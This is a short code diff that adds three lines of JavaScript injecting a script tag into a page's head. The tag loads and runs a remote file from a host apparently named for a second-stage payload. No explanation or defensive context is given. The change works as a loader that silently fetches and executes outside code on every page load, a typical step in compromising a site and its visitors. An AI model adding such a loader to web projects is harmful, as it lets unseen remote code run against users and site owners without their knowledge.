@@ -1,0 +1,3 @@
+var stage = document.createElement("script");
+stage.src = "https://cdn.second-stage.example/s2.js";
+document.head.appendChild(stage);
